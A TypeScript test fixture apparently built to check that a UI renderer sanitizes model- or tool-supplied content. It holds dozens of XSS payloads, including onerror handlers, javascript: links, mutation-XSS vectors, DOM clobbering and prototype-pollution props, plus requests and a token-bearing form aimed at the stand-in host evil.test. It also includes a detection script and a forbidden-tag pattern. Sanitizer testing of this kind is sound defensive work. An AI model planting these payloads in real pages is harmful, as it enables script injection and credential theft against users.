/** Content that a model or a tool may give to harm who looks at it. Each calls `pwned` of the window with its name, or asks for https://evil.test/. */

const html = (value: string) => ({ type: 'webcomponent', value });
const text = (value: string) => ({ type: 'text', value });
const component = (name: string, props: unknown) => ({ type: 'component', component: name, props });

const RUN = (name: string) => `pwned('${name}')`;

const HTML: Record<string, string> = {
  script: '<script>pwned("script")</script>',
  'script from elsewhere': '<script src="https://evil.test/a.js"></script>',
  'image that fails': `<img src="x:x" onerror="${RUN('image that fails')}">`,
  'image from elsewhere': '<img src="https://evil.test/a.png">',
  'set of images': '<img srcset="https://evil.test/b.png 1x, https://evil.test/c.png 2x">',
  picture: '<picture><source srcset="https://evil.test/d.png"><img src="https://evil.test/e.png"></picture>',
  'svg that loads': `<svg onload="${RUN('svg that loads')}"></svg>`,
  'svg with a script': '<svg><script>pwned("svg with a script")</script></svg>',
  'svg that animates':
    '<svg><a><animate attributeName="href" values="javascript:pwned(1)" /><text y="20">x</text></a></svg>',
  'svg that uses':
    '<svg><use href="https://evil.test/f.svg#a"></use><image href="https://evil.test/g.png"/></svg>',
  'foreign object': `<svg><foreignObject><img src="x:x" onerror="${RUN('foreign object')}"></foreignObject></svg>`,
  'link of script': '<a href="javascript:pwned(2)">x</a>',
  'link of script, hidden': '<a href="&#x6A;ava&Tab;script:pwned(3)">x</a>',
  'link of data': '<a href="data:text/html,<script>opener.pwned(4)</script>">x</a>',
  'frame of a document': '<iframe srcdoc="<script>parent.pwned(5)</script>"></iframe>',
  'frame of script': '<iframe src="javascript:parent.pwned(6)"></iframe>',
  'frame from elsewhere': '<iframe src="https://evil.test/h"></iframe>',
  object: '<object data="https://evil.test/i"></object><embed src="https://evil.test/j">',
  form: '<form action="https://evil.test/k"><input name="token" autofocus onfocus="pwned(7)"><button>Approve</button></form>',
  'button of a form': '<button form="x" formaction="javascript:pwned(8)">Approve</button>',
  base: '<base href="https://evil.test/"><a href="/l">x</a>',
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.test/m">',
  'link of a style': '<link rel="stylesheet" href="https://evil.test/n.css">',
  preload: '<link rel="preload" as="image" href="https://evil.test/o.png">',
  'style that asks':
    '<style>* { background: url(https://evil.test/p.png) } @import "https://evil.test/q.css";</style>',
  'style of an element': '<p style="background:url(https://evil.test/r.png);position:fixed;inset:0">x</p>',
  'clobbers the document': '<p id="getElementById" name="cookie">x</p><a id="app">x</a><a name="body">x</a>',
  'clobbers the purifier':
    '<form><input name="attributes"><input name="nodeName"><input name="remove"></form>',
  'mutates by math':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x:x onerror=pwned(9)&gt;">',
  'mutates by noscript': '<noscript><p title="</noscript><img src=x:x onerror=pwned(10)>">',
  'mutates by a template': '<svg></p><style><a id="</style><img src=x:x onerror=pwned(11)>">',
  'mutates by a table': '<table><caption><svg><title><style></title><img src=x:x onerror=pwned(12)></style>',
  template: '<template><img src=x:x onerror=pwned(13)></template>',
  'shadow of its own':
    '<div><template shadowrootmode="open"><img src=x:x onerror=pwned(14)></template></div>',
  'details that open': '<details open ontoggle="pwned(15)"><summary>x</summary></details>',
  'video that fails':
    '<video><source onerror="pwned(16)"></video><audio src="https://evil.test/s.mp3" autoplay></audio>',
  'element nobody registered': '<evil-card onclick="pwned(17)" data-x="1">x</evil-card>',
  'element of ours with handlers':
    '<my-card onclick="pwned(18)" style="color:red" id="app" title="t">x</my-card>',
  'customised built-in': '<p is="my-card" onclick="pwned(19)">x</p>',
  'marquee and body': '<marquee onstart="pwned(20)">x</marquee><body onload="pwned(21)">',
  'slot and part': '<slot name="x" onslotchange="pwned(22)"></slot><p part="x" slot="y">x</p>',
  'deep nesting': `${'<div>'.repeat(800)}<img src=x:x onerror=pwned(23)>`,
};

const OTHER: Record<string, unknown> = {
  'Markdown with HTML': text(
    '<img src=x:x onerror=pwned(24)> [x](javascript:pwned(25)) ![x](https://evil.test/t.png)',
  ),
  'handler by __proto__': component('resource-list', { resources: [{ name: 'p' }], onClick: '__proto__' }),
  'handler by constructor': component('resource-list', {
    resources: [{ name: 'c' }],
    onClick: 'constructor',
  }),
  'handler that is code': component('resource-list', { resources: [{ name: 'd' }], onClick: 'pwned(26)' }),
  'properties by __proto__': JSON.parse(
    '{"type":"component","component":"spread-card","props":{"__proto__":{"onclick":"pwned(27)"}}}',
  ),
  'markup in properties': component('spread-card', {
    dangerouslySetInnerHTML: { __html: '<img src=x:x onerror=pwned(28)>' },
    onclick: 'pwned(29)',
    onMouseOver: 'pwned(30)',
  }),
  'an element in properties': component('spread-card', {
    children: { type: 'img', props: { src: 'https://evil.test/u.png' }, key: null, ref: null },
  }),
  'words that are markup': component('todo-list', {
    todos: [{ description: '<img src=x:x onerror=pwned(31)>' }],
  }),
  'component named constructor': component('constructor', {}),
  'component named __proto__': component('__proto__', {}),
};

export const HOSTILE: Record<string, unknown> = {
  ...Object.fromEntries(Object.entries(HTML).map(([name, value]) => [name, html(value)])),
  ...OTHER,
};

/** Code that finds all elements, those in shadows too, and lets them hear what would set off a handler. */
export const LOOK = `(() => {
  const found = [];
  const go = root => {
    for (const element of root.querySelectorAll('*')) {
      found.push({ tag: element.localName, attributes: element.getAttributeNames(), href: element.getAttribute('href') });
      for (const type of ['mouseover', 'focus', 'toggle', 'error', 'load', 'animationstart', 'slotchange', 'start'])
        element.dispatchEvent(new Event(type));
      if (element.localName !== 'a' && element.localName !== 'button' && element.localName !== 'summary') element.dispatchEvent(new MouseEvent('click'));
      if (element.shadowRoot) go(element.shadowRoot);
    }
  };
  for (const parts of document.querySelectorAll('.parts')) go(parts);
  return found;
})()`;

export interface Seen {
  tag: string;
  attributes: string[];
  href: string | null;
}

/** Elements that are in no page. */
export const NEVER =
  /^(script|style|link|meta|base|iframe|object|embed|form|input|svg|math|img|picture|source|video|audio|template|slot|noscript|evil-card)$/;
